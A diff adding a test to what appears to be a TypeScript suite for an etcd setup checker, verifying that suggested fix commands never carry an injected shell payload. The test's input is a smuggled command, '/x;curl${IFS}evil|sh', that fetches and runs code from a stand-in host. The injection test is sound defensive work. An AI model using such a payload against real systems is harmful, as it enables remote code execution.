@@ -37,6 +37,22 @@ test('a link names its target, and what to write into the cluster file instead',
   expect(data?.remedy).toContain('(etcd.dataDirectory: /mnt/x)')
 })
 
+test('what a machine names becomes no command that a shell would read otherwise', () => {
+  const evil = '/x;curl${IFS}evil|sh'
+  const loose = `root can't work safely in /opt; nothing was changed. Fix: chown root: ${evil} && chmod go-w ${evil}`
+  const checks = [
+    ...failures(found('link', '/opt/etcd', evil)),
+    ...failures(found('ground', '/opt', loose)),
+    ...failures({ rehearsal: [...readFindings(`write ${evil}\tRead-only file system`)] }),
+    ...failures({ rooms: [{ mountedOn: evil, freeInodes: 1, freeBytes: 1 }] }),
+  ]
+  expect(checks).toHaveLength(4)
+  for (const { remedy } of checks) {
+    expect(remedy).toMatch(/./)
+    expect(remedy).not.toContain('evil')
+  }
+})
+
 test.each<[FindingKind, string, string, string, RegExp]>([
   ['blocked', '/opt/etcd', 'regular file', 'directories', /^move \/opt\/etcd away/],
   ['mount', '/opt/etcd/wal', 'a mount point', 'directories', /etcd\.walDirectory: \/opt\/etcd\/wal\/wal/],
